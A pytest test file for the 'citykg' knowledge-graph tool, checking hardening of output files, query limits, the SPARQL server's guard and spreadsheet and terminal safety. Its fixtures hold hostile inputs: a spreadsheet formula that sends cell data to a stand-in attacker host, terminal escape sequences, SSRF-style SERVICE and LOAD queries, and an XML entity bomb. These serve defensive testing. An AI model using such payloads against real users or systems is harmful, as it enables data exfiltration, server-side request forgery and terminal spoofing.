"""Issue 15's findings that are not a bad-input case of their own: output files, streams, time
limits, Ctrl-C, terminal and spreadsheet safety, the served endpoint's guard.

Each test reproduces the finding (the command line that went wrong) and checks the one line,
the exit code and what is left on disk.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

import pytest

from citykg.defaults import DEFAULT_TIMEOUT
from citykg.errors import CitykgError, QueryError
from citykg.files import spreadsheet_safe, write_atomic_files
from citykg.graph.build import build
from citykg.graph.store import open_dataset
from citykg.options import INTERNAL_WARNING
from citykg.queries.sparql import LocalSource, query_shape, run_interruptibly
from tests.conftest import Run
from tests.servers import free_port

PROTECTED = Path(__file__).parent / "fixtures" / "reliability" / "protected"
CITYKG = [sys.executable, "-m", "citykg"]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hardening") / "store"
    build(path, [PROTECTED])
    return path


def one_line_error(run: Run, *args: str | Path) -> str:
    result = run(*args)
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]


# --- -o: files only, modes kept, internal data private ------------------------------------------


def test_o_writes_into_dev_null_without_replacing_it(run: Run, store: Path) -> None:
    before = os.stat("/dev/null")
    result = run("export", "--store", store, "-o", "/dev/null")
    assert result.exit_code == 0, result.stderr
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev
    assert after.st_ino == before.st_ino


def test_o_to_a_full_device_is_one_line(run: Run, store: Path) -> None:
    assert one_line_error(run, "export", "--store", store, "-o", "/dev/full") == (
        "Error: /dev/full: cannot write the file (No space left on device). Choose another -o path."
    )
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


def test_o_writes_into_a_fifo_for_its_reader(run: Run, store: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    # The reader writes to a file: a pipe back to this process would fill (64 KB) while the
    # export still writes, and both would wait for ever.
    received = tmp_path / "received"
    with received.open("wb") as sink:
        reader = subprocess.Popen(["cat", str(fifo)], stdout=sink)
        result = run("export", "--store", store, "--format", "nt", "-o", fifo)
        reader.wait(timeout=30)
    assert result.exit_code == 0, result.stderr
    assert b"A City Network" in received.read_bytes()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # still the pipe, not a file


def test_o_keeps_a_link_and_says_so(run: Run, store: Path, tmp_path: Path) -> None:
    (tmp_path / "target.ttl").write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.ttl"
    link.symlink_to("target.ttl")
    assert one_line_error(run, "export", "--store", store, "-o", link) == (
        f"Error: {link}: is a symbolic link; citykg replaces files, never writes through a "
        f"link. Give the file it points to ({tmp_path / 'target.ttl'}) or another -o path."
    )
    assert link.is_symlink() and (tmp_path / "target.ttl").read_text() == "old\n"


def test_o_writes_through_dev_stdout(tmp_path: Path, store: Path) -> None:
    # /dev/stdout is a link to /proc/self/fd/1: a stream, written into.
    out = tmp_path / "captured"
    with out.open("w") as handle:
        result = subprocess.run(
            [*CITYKG, "export", "--store", str(store), "--format", "nt", "-o", "/dev/stdout"],
            stdout=handle, stderr=subprocess.PIPE, text=True, timeout=120,
        )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "A City Network" in out.read_text(encoding="utf-8")


def test_o_refuses_a_socket(run: Run, store: Path, tmp_path: Path) -> None:
    path = tmp_path / "s"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        assert one_line_error(run, "export", "--store", store, "-o", path) == (
            f"Error: {path}: is a device or socket, not a file. Choose another -o path."
        )


def test_o_refuses_a_block_device(run: Run, store: Path) -> None:
    devices = [p for p in Path("/dev").glob("loop*") if stat.S_ISBLK(p.stat().st_mode)]
    if not devices:
        pytest.skip("no block device to name here")
    device = devices[0]
    assert one_line_error(run, "export", "--store", store, "-o", device) == (
        f"Error: {device}: is a device or socket, not a file. Choose another -o path."
    )
    assert stat.S_ISBLK(device.stat().st_mode)


def test_o_keeps_an_existing_files_mode(run: Run, store: Path, tmp_path: Path) -> None:
    out = tmp_path / "private.ttl"
    out.write_text("", encoding="utf-8")
    out.chmod(0o600)
    assert run("export", "--store", store, "-o", out, "--include-internal").exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "SECRET-Anna Jensen" in out.read_text(encoding="utf-8")
    out.chmod(0o640)
    assert run("export", "--store", store, "-o", out).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o640


def test_new_files_with_internal_data_are_private(run: Run, store: Path, tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        assert run("export", "--store", store, "-o", tmp_path / "public.ttl").exit_code == 0
        result = run("export", "--store", store, "-o", tmp_path / "all.ttl", "--include-internal")
        assert result.stderr == INTERNAL_WARNING + "\n"
        query = run("query", "networks-of", "--store", store, "-o", tmp_path / "q.csv")
        assert query.exit_code == 0
        csv_export = run(
            "export", "--store", store, "--format", "csv", "-o", tmp_path / "net",
            "--include-internal",
        )  # fmt: skip
        assert csv_export.exit_code == 0
        mapped = run("map", "--store", store, "-o", tmp_path / "map.html", "--include-internal")
        assert mapped.exit_code == 0, mapped.stderr
        briefed = run(
            "brief", "lisbon", "--store", store, "-o", tmp_path / "brief.html", "--include-internal"
        )
        assert briefed.exit_code == 0, briefed.stderr
        dated = run("timeline", "--store", store, "-o", tmp_path / "t.html", "--include-internal")
        assert dated.exit_code == 0, dated.stderr
    finally:
        os.umask(umask)
    modes = {
        name: stat.S_IMODE((tmp_path / name).stat().st_mode)
        for name in (
            "public.ttl",
            "all.ttl",
            "q.csv",
            "net-nodes.csv",
            "net-edges.csv",
            "map.html",
            "brief.html",
            "t.html",
        )
    }
    assert modes == {
        "public.ttl": 0o644,
        "all.ttl": 0o600,
        "q.csv": 0o600,  # a local query sees internal data
        "net-nodes.csv": 0o600,
        "net-edges.csv": 0o600,
        "map.html": 0o600,
        "brief.html": 0o600,
        "t.html": 0o600,
    }


def test_a_csv_pair_is_written_whole_or_not_at_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nodes, edges = tmp_path / "x-nodes.csv", tmp_path / "x-edges.csv"
    nodes.write_text("old nodes\n", encoding="utf-8")
    import citykg.files as files

    real = files._fdopen
    opened: list[int] = []

    class Full(io.StringIO):
        def write(self, text: str) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

    def fdopen(fd: int, binary: bool) -> IO[Any]:
        opened.append(fd)
        if len(opened) == 2:  # the second file: the disk is full
            os.close(fd)
            return Full()
        return real(fd, binary)

    monkeypatch.setattr(files, "_fdopen", fdopen)
    with pytest.raises(OSError):
        write_atomic_files([(nodes, "new nodes\n"), (edges, "new edges\n")])
    monkeypatch.undo()
    assert nodes.read_text(encoding="utf-8") == "old nodes\n"
    assert not edges.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x-nodes.csv"]


def test_a_csv_export_to_a_stream_is_refused(run: Run, store: Path) -> None:
    assert one_line_error(
        run, "export", "--store", store, "--format", "csv", "-o", "/dev/null"
    ) == (
        "Error: /dev/null: is a stream, but a CSV export writes two files (nodes and edges). "
        "Name a folder or a file prefix with -o."
    )
    assert not Path("/dev/null-nodes.csv").exists()


# --- synth ---------------------------------------------------------------------------------------


def test_synth_refuses_a_folder_that_is_not_empty(run: Run, tmp_path: Path) -> None:
    folder = tmp_path / "dataset"
    folder.mkdir()
    (folder / "cities.yaml").write_text("cities: []\n", encoding="utf-8")
    assert one_line_error(run, "synth", "-q", "--format", "yaml", "-o", folder) == (
        f"Error: {folder}: is a folder that is not empty. Give a new or empty folder."
    )
    assert [p.name for p in folder.iterdir()] == ["cities.yaml"]
    assert run("synth", "-q", "--format", "yaml", "-o", tmp_path / "new").exit_code == 0


@pytest.mark.parametrize(
    ("option", "value", "least"),
    [("--cities", "-1", 5), ("--networks", "0", 1), ("--network-memberships", "1", 15)],
)
def test_synth_refuses_counts_it_cannot_generate(
    run: Run, tmp_path: Path, option: str, value: str, least: int
) -> None:
    assert one_line_error(run, "synth", "-q", "-o", tmp_path / "w.nt", option, value) == (
        f"Error: {option} {value} is too small: a world needs at least {least}. "
        f"Give {option} {least} or more."
    )
    assert not (tmp_path / "w.nt").exists()


# --- inputs that are not files -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "message"),
    [
        (
            ("load", "text", "-q"),
            "Error: /dev/zero: is a device, pipe or socket, not a file. Give a file.",
        ),
        (
            ("load", "members", "-q", "--network", "net"),
            "Error: /dev/zero: is a device, pipe or socket, not a file. "
            "Give a .csv, .tsv or .xlsx file.",
        ),
        (
            ("query", "--file"),
            "Error: /dev/zero: is a device, pipe or socket, not a file. Give a file.",
        ),
    ],
    ids=["text", "members", "query"],
)
def test_dev_zero_as_input_is_one_line(
    run: Run, store: Path, command: tuple[str, ...], message: str
) -> None:
    assert one_line_error(run, *command, "/dev/zero", "--store", store) == message


# --- local queries: time limit, Ctrl-C, row limit, shape ---------------------------------------

#: 735 triples three times over: 400 million rows to count, minutes of work.
SLOW = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }\n"


def test_a_local_query_stops_at_its_timeout(store: Path, tmp_path: Path) -> None:
    # In a process of its own: the abandoned query runs on until the process ends.
    (tmp_path / "slow.rq").write_text(SLOW, encoding="utf-8")
    start = time.monotonic()
    result = subprocess.run(
        [*CITYKG, "query", "--store", str(store), "--file", str(tmp_path / "slow.rq"),
         "--timeout", "1"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert time.monotonic() - start < 30
    assert result.returncode == 1
    assert result.stderr == (
        "Error: the query did not finish within 1 s. Narrow it, or give a longer --timeout.\n"
    )


def test_a_local_query_stops_on_ctrl_c_at_once(store: Path, tmp_path: Path) -> None:
    (tmp_path / "slow.rq").write_text(SLOW, encoding="utf-8")
    process = subprocess.Popen(
        [*CITYKG, "query", "--store", str(store), "--file", str(tmp_path / "slow.rq"),
         "--timeout", "600"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    time.sleep(4)  # well into the query
    assert process.poll() is None
    start = time.monotonic()
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert time.monotonic() - start < 5
    assert process.returncode == 1
    assert err == "\nAborted!\n"


def test_named_queries_get_the_default_timeout_analyses_only_when_given(
    store: Path, monkeypatch: pytest.MonkeyPatch, run: Run
) -> None:
    from citykg.graph import source as source_module

    seen: list[float | None] = []
    real = source_module.open_source

    def spy(*args: object, **kwargs: object) -> object:
        seen.append(kwargs.get("local_timeout"))  # type: ignore[arg-type]
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(source_module, "open_source", spy)
    assert run("query", "networks-of", "--store", store).exit_code == 0
    assert run("overlaps", "--store", store, "--format", "csv").exit_code == 0
    assert run("overlaps", "--store", store, "--format", "csv", "--timeout", "9").exit_code == 0
    assert seen == [DEFAULT_TIMEOUT, None, 9.0]


def test_a_result_over_the_row_limit_is_an_error_not_a_memory_error(store: Path) -> None:
    source = LocalSource(open_dataset(store), max_rows=10)
    with pytest.raises(QueryError) as raised:
        source.select("SELECT * WHERE { ?s ?p ?o }")
    assert str(raised.value) == (
        "the result has more than 10 rows. Narrow the query (LIMIT, filters), or use "
        "'citykg export' for the whole graph."
    )
    assert len(source.select("SELECT * WHERE { ?s ?p ?o } LIMIT 10").rows) == 10


def test_user_queries_are_held_to_the_row_limit(
    run: Run, store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import citykg.queries.sparql as sparql

    monkeypatch.setattr(sparql, "MAX_ROWS", 100)
    (tmp_path / "all.rq").write_text("SELECT * WHERE { ?s ?p ?o }\n", encoding="utf-8")
    assert one_line_error(
        run, "query", "--store", store, "--file", tmp_path / "all.rq", "--format", "csv"
    ) == (
        "Error: the result has more than 100 rows. Narrow the query (LIMIT, filters), or use "
        "'citykg export' for the whole graph."
    )


def test_a_memory_error_in_a_query_is_one_line() -> None:
    def task() -> None:
        raise MemoryError

    with pytest.raises(QueryError) as raised:
        run_interruptibly(task, None)
    assert str(raised.value) == (
        "the query's result does not fit in memory. Narrow it with LIMIT or filters, or use "
        "'citykg export' for the whole graph."
    )


def test_the_query_shape_ignores_strings_iris_comments_and_values() -> None:
    text = (
        "PREFIX service: <urn:service#> # SERVICE { { {\n"
        "SELECT ?service WHERE { VALUES (?a ?b) { (1 2) (3 4) (5 6) } "
        "?s <urn:x> 'SERVICE {' ; service:p ?service }"
    )
    shape = query_shape(text)
    # The VALUES data and the PREFIX declaration are flat: not counted.
    assert (shape.service, shape.depth, shape.tokens) == (False, 3, 16)


def test_allow_service_lets_a_local_query_call_out(run: Run, store: Path, tmp_path: Path) -> None:
    (tmp_path / "service.rq").write_text(
        "SELECT * WHERE { SERVICE <http://127.0.0.1:1/sparql> { ?s ?p ?o } }\n", encoding="utf-8"
    )
    # Allowed, the call is made (and fails: nothing listens), as one line.
    assert one_line_error(
        run, "query", "--store", store, "--file", tmp_path / "service.rq", "--allow-service"
    ).startswith("Error: the query could not be run (")


# --- small findings -----------------------------------------------------------------------------


def test_prefix_select_does_not_fool_the_query_form(run: Run, store: Path, tmp_path: Path) -> None:
    (tmp_path / "ask.rq").write_text(
        'PREFIX select: <https://w3id.org/citykg/ontology#>\nASK { ?x select:kind "network" }\n',
        encoding="utf-8",
    )
    result = run("query", "--store", store, "--file", tmp_path / "ask.rq", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "ask\ntrue\n"


def test_a_bad_iri_parameter_is_one_line_naming_it(
    run: Run, store: Path, caplog: pytest.LogCaptureFixture
) -> None:
    assert one_line_error(
        run, "query", "networks-of", "--store", store, "-p", "actor=http://x y"
    ) == (
        "Error: parameter 'actor' is not a valid IRI (Invalid IRI code point ' '). Give a "
        "short ID (-p actor=c40) or a full IRI such as https://w3id.org/citykg/id/c40."
    )
    assert not [r for r in caplog.records if "does not look like a valid URI" in r.getMessage()]


def test_map_theme_lists_themes_not_node_labels(run: Run, store: Path, tmp_path: Path) -> None:
    assert (
        one_line_error(run, "map", "--store", store, "--theme", "nosuch", "-o", tmp_path / "m.html")
        == "Error: no node has theme 'nosuch'. Known themes: Climate action."
    )


def test_analyze_brokers_with_no_actors_is_an_empty_table(run: Run, tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "a.yaml").write_text("themes:\n  - {id: heat, label: Heat}\n", encoding="utf-8")
    assert run("build", "-q", "--store", tmp_path / "s", data).exit_code == 0
    result = run("analyze", "brokers", "--store", tmp_path / "s")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[0].split() == [
        "id", "label", "kind", "betweenness", "constraint", "effective_size", "communities",
        "collaborations",
    ]  # fmt: skip
    assert len(result.stdout.splitlines()) == 2
    assert run("analyze", "brokers", "--store", tmp_path / "s", "--format", "json").stdout == "[]\n"


def test_stdout_to_a_full_device_is_one_line(store: Path) -> None:
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [*CITYKG, "stats", "--store", str(store)],
            stdout=full, stderr=subprocess.PIPE, text=True, timeout=120,
        )  # fmt: skip
    assert result.returncode == 1
    assert result.stderr == (
        "Error: cannot write to standard output (No space left on device). Check where the "
        "output goes, or write it to a file with -o.\n"
    )


def test_a_full_disk_during_a_build_leaves_the_store_and_says_so(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import citykg.graph.build as build_module

    store = tmp_path / "store"
    assert run("build", "-q", "--store", store, PROTECTED).exit_code == 0
    before = sorted(p.name for p in store.iterdir())

    def full(*args: object, **kwargs: object) -> int:
        raise OSError(
            "IO error: No space left on device: While appending to file: "
            f"{store}/data-x/000008.log: No space left on device"
        )

    monkeypatch.setattr(build_module, "materialise", full)
    assert one_line_error(run, "build", "-q", "--store", store, PROTECTED) == (
        f"Error: {store}: the disk filled up while the new graph was written; the store is as "
        "it was before. Free some space and build again."
    )
    assert sorted(p.name for p in store.iterdir()) == before


def test_a_full_disk_for_real(tmp_path: Path) -> None:
    # A 3 MB tmpfs that a build overflows (needs root, as CI containers give).
    mount = tmp_path / "small"
    mount.mkdir()
    made = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)], capture_output=True
    )
    if made.returncode != 0:
        pytest.skip("cannot mount a small tmpfs here")
    try:
        (mount / "fill").write_bytes(b"x" * (3 * 1024 * 1024 - 600 * 1024))
        result = subprocess.run(
            [*CITYKG, "build", "-q", "--store", str(mount / "store"), str(PROTECTED)],
            capture_output=True, text=True, timeout=300,
        )  # fmt: skip
        assert result.returncode == 1
        assert result.stderr == (
            f"Error: {mount / 'store'}: the disk filled up while the new graph was written; "
            "the store is as it was before. Free some space and build again.\n"
        )
        assert [p.name for p in (mount / "store").iterdir()] == ["build.lock"]
    finally:
        subprocess.run(["umount", str(mount)], check=False)


# --- terminal and spreadsheet safety -----------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ESCAPES = "Evil\x1b]0;owned\x07 \x1b[31mred\u202etxet"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    data = folder / "data"
    data.mkdir()
    (data / "a.yaml").write_text(
        "dataset: {id: hostile, title: Hostile labels, home: copenhagen}\n"
        "cities:\n"
        f"  - {{id: copenhagen, label: Copenhagen}}\n"
        f"  - {{id: formula, label: {json.dumps(HOSTILE)}}}\n"
        f"  - {{id: escapes, label: {json.dumps(ESCAPES)}}}\n"
        "networks:\n"
        "  - {id: net, label: Net}\n"
        "roles:\n  - {id: member, label: Member}\n"
        "memberships:\n"
        "  - {member: copenhagen, organization: net}\n"
        "  - {member: formula, organization: net}\n"
        "  - {member: escapes, organization: net}\n",
        encoding="utf-8",
    )
    store = folder / "store"
    build(store, [data], validate=False)
    return store


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(
    run: Run, hostile_store: Path, tmp_path: Path
) -> None:
    result = run("overlaps", "--store", hostile_store, "--format", "csv")
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[[r[0] for r in rows].index("formula")][:2] == ["formula", "'" + HOSTILE]
    assert run("export", "--store", hostile_store, "--format", "csv", "-o", tmp_path).exit_code == 0
    with (tmp_path / "nodes.csv").open(encoding="utf-8") as handle:
        labels = {row["id"]: row["label"] for row in csv.DictReader(handle)}
    assert labels["formula"] == "'" + HOSTILE
    assert spreadsheet_safe("-12.5") == "-12.5" and spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"


def test_terminal_escapes_in_labels_are_shown_not_run(run: Run, hostile_store: Path) -> None:
    table = run("overlaps", "--store", hostile_store).stdout
    assert "\x1b" not in table and "\u202e" not in table and "\x07" not in table
    assert "Evil\\x1b]0;owned\\x07 \\x1b[31mred\\u202etxet" in table
    as_json = run("overlaps", "--store", hostile_store, "--format", "json").stdout
    assert "\u202e" not in as_json and "\\u202e" in as_json
    assert ESCAPES in [r["label"] for r in json.loads(as_json)]  # the value itself is kept
    error = one_line_error(run, "overlaps", "Evil\x1b[2Jx", "--store", hostile_store)
    assert "\x1b" not in error and "\\x1b[2J" in error


# --- serve: the guard -------------------------------------------------------------------------


@contextlib.contextmanager
def serving(
    store: Path, *extra: str, port: int | None = None
) -> Iterator[tuple[str, subprocess.Popen[str]]]:
    port = port or free_port()
    process = subprocess.Popen(
        [*CITYKG, "serve", "--store", str(store), "--port", str(port), *extra],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
    )  # fmt: skip
    try:
        assert process.stdout is not None
        line = process.stdout.readline()
        assert line.startswith("SPARQL endpoint"), process.communicate()[1]
        yield f"http://127.0.0.1:{port}", process
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGINT)
            try:
                process.communicate(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.communicate()


def post(base: str, text: str, path: str = "/query", field: str = "query") -> tuple[int, str]:
    data = urllib.parse.urlencode({field: text}).encode()
    try:
        with urllib.request.urlopen(base + path, data=data, timeout=30) as answer:
            return answer.status, answer.read().decode("utf-8")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8")


@pytest.mark.server
def test_the_guard_refuses_deep_long_and_fetching_queries(store: Path) -> None:
    with serving(store) as (base, process):
        assert post(base, "SELECT * WHERE " + "{" * 4000 + "}" * 4000) == (
            400, "the query nests groups or brackets 4000 deep, more than 64. Flatten it.\n"
        )  # fmt: skip
        status, text = post(base, "SELECT * WHERE { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }")
        assert (status, text) == (
            400,
            "the query calls another endpoint with SERVICE, which would make citykg fetch "
            "whatever address it names. Start 'citykg serve' with --allow-service to allow it.\n",
        )
        # The same as a SPARQL body and in the URL: every way a query can come.
        request = urllib.request.Request(
            base + "/query", data=b"SELECT * WHERE { SERVICE <http://x/> {} }",
            headers={"Content-Type": "application/sparql-query"},
        )  # fmt: skip
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=10)
        assert refused.value.code == 400
        url = base + "/query?" + urllib.parse.urlencode({"query": "ASK { SERVICE <http://x/> {} }"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(url, timeout=10)
        assert refused.value.code == 400
        status, text = post(base, "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }")
        assert status == 200 and '"n"' in text
        assert process.poll() is None


@pytest.mark.server
def test_the_guard_refuses_load_in_a_writable_copy(store: Path) -> None:
    with serving(store, "--writable") as (base, _):
        status, text = post(base, "LOAD <http://127.0.0.1:9/x.ttl>", "/update", "update")
        assert status == 400
        assert text.startswith("the update loads a document with LOAD")
        assert post(base, 'INSERT DATA { <urn:a> <urn:b> "c" }', "/update", "update")[0] == 204


@pytest.mark.server
def test_allow_service_passes_service_on(store: Path) -> None:
    with serving(store, "--allow-service") as (base, _):
        status, text = post(base, "SELECT * WHERE { SERVICE <http://127.0.0.1:1/> { ?s ?p ?o } }")
        assert status != 400 or "SERVICE, which would make" not in text


@pytest.mark.server
def test_the_port_is_free_again_at_once_after_a_stop(store: Path) -> None:
    port = free_port()
    with serving(store, port=port) as (base, _):
        assert post(base, "ASK {}")[0] == 200
    with serving(store, port=port) as (base, _):
        assert post(base, "ASK {}")[0] == 200


def test_an_address_that_is_not_this_machines_is_not_a_port_in_use(run: Run, store: Path) -> None:
    port = free_port()
    assert one_line_error(
        run, "serve", "--store", store, "--port", str(port), "--host", "256.1.1.1"
    ).startswith("Error: cannot listen on '256.1.1.1' (")
    assert one_line_error(
        run, "serve", "--store", store, "--port", str(port), "--host", "192.0.2.1"
    ) == (
        f"Error: cannot listen on 192.0.2.1 port {port} (Cannot assign requested address). "
        "Give an address of this machine with --host, such as 127.0.0.1."
    )


def _state(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/status", encoding="utf-8") as status:
            return next(line.split()[1] for line in status if line.startswith("State:"))
    except (FileNotFoundError, StopIteration):
        return "gone"


@pytest.mark.server
def test_kill_9_takes_the_server_along_and_the_next_start_removes_the_copy(store: Path) -> None:
    scratch = Path(tempfile.gettempdir())
    before = set(scratch.glob("citykg-serve-*"))
    with serving(store) as (_, process):
        child = int(
            subprocess.run(
                ["pgrep", "-P", str(process.pid)], capture_output=True, text=True
            ).stdout.split()[0]
        )
        copies = set(scratch.glob("citykg-serve-*")) - before
        assert len(copies) == 1
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        deadline = time.monotonic() + 10
        while _state(child) not in ("gone", "Z") and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _state(child) in ("gone", "Z")  # a zombie where nobody reaps orphans
        assert all(copy.exists() for copy in copies)  # left behind by kill -9 ...
    with serving(store):
        assert not any(copy.exists() for copy in copies)  # ... and removed by the next start


def test_a_served_copy_in_use_is_not_removed(tmp_path: Path) -> None:
    import fcntl

    from citykg.graph.serve import SCRATCH_LOCK, _clean_stale_copies

    folder = Path(tempfile.mkdtemp(prefix="citykg-serve-"))
    try:
        with open(folder / SCRATCH_LOCK, "w") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            _clean_stale_copies()
            assert folder.exists()
        _clean_stale_copies()
        assert not folder.exists()
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_error_values_are_bounded() -> None:
    from citykg.errors import shown

    huge: list[object] = [0]
    for _ in range(30):
        huge = [huge] * 10  # 10**30 items if walked: only a bounded repr may look at it
    start = time.monotonic()
    text = shown(huge)
    assert time.monotonic() - start < 1 and len(text) < 200
    assert len(str(CitykgError("x" * 10_000, "y"))) < 1100


def test_a_dtd_cannot_hide_behind_a_megabyte_of_comments(run: Run, tmp_path: Path) -> None:
    bomb = (Path(__file__).parent / "bad_inputs" / "rdf-entity-bomb" / "bomb.rdf").read_text()
    padded = tmp_path / "padded.rdf"
    padded.write_text(
        bomb.replace(
            '<?xml version="1.0"?>', '<?xml version="1.0"?>\n<!--' + "x" * 1_100_000 + "-->"
        ),
        encoding="utf-8",
    )
    assert one_line_error(run, "build", "-q", "--store", tmp_path / "s", padded) == (
        f"Error: {padded}: the file does not start its first element within 1 MB. "
        "Remove what comes before it."
    )


def test_a_workbook_that_unpacks_too_big_is_refused(
    run: Run, store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import openpyxl

    import citykg.loaders.limits as limits

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["name"])
    sheet.append(["Lisbon"])
    book.save(tmp_path / "list.xlsx")
    monkeypatch.setattr(limits, "MAX_XLSX_BYTES", 1000)
    assert one_line_error(
        run, "load", "members", "-q", "--store", store, "--network", "net", tmp_path / "list.xlsx"
    ) == (
        f"Error: {tmp_path / 'list.xlsx'}: the workbook unpacks to more than 1000 bytes. "
        "Save the list as .csv, or split it."
    )
